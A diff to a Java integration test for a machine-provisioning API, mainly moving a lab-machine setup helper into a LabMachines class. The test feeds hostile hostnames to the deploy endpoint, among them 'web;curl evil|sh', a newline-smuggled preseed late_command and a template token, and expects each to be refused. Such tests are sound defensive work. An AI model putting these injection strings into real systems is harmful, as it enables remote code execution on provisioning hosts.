@@ -3,12 +3,11 @@ package org.metalflow.api;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import java.time.Duration;
 import java.util.List;
 import java.util.UUID;
-import org.awaitility.Awaitility;
 import org.junit.jupiter.api.Test;
 import org.metalflow.IntegrationTest;
+import org.metalflow.LabMachines;
 import org.metalflow.RawHttp;
 import org.springframework.http.HttpMethod;
 import org.springframework.http.MediaType;
@@ -49,7 +48,7 @@ class HostileInputTest extends IntegrationTest {
 
     @Test
     void aHostileDeployHostNameIsRefusedBeforeAnyAddressOrRecordIsTaken() {
-        UUID id = available();
+        UUID id = new LabMachines(api()).available(LAB_INDEX);
         for (String hostname : List.of("web;curl evil|sh", "web\nd-i preseed/late_command", "{{installToken}}",
                 "web.example.com", "Web", "")) {
             JsonNode problem = send(HttpMethod.POST, "/api/v1/machines/" + id + "/actions/deploy",
@@ -113,22 +112,6 @@ class HostileInputTest extends IntegrationTest {
             assertThat(response.status()).as(path).isBetween(400, 499);
             assertThat(response.body()).as(path).doesNotContain("root:");
         }
-    }
-
-    private UUID available() {
-        JsonNode bmc = api().get().uri("/api/v1/lab/bmcs?page={p}&size=1", LAB_INDEX).retrieve().body(JsonNode.class)
-                .get("items").get(0);
-        UUID id = UUID.fromString(api().post().uri("/api/v1/machines").contentType(MediaType.APPLICATION_JSON)
-                .body(bmc.get("registration")).retrieve().body(JsonNode.class).get("id").asText());
-        awaitState(id, "manageable");
-        api().post().uri("/api/v1/machines/{id}/actions/prepare", id).retrieve().toBodilessEntity();
-        awaitState(id, "available");
-        return id;
-    }
-
-    private void awaitState(UUID id, String state) {
-        Awaitility.await().atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofMillis(300)).until(() -> state.equals(
-                api().get().uri("/api/v1/machines/{id}", id).retrieve().body(JsonNode.class).get("state").asText()));
     }
 
     private JsonNode send(HttpMethod method, String path, String body) {
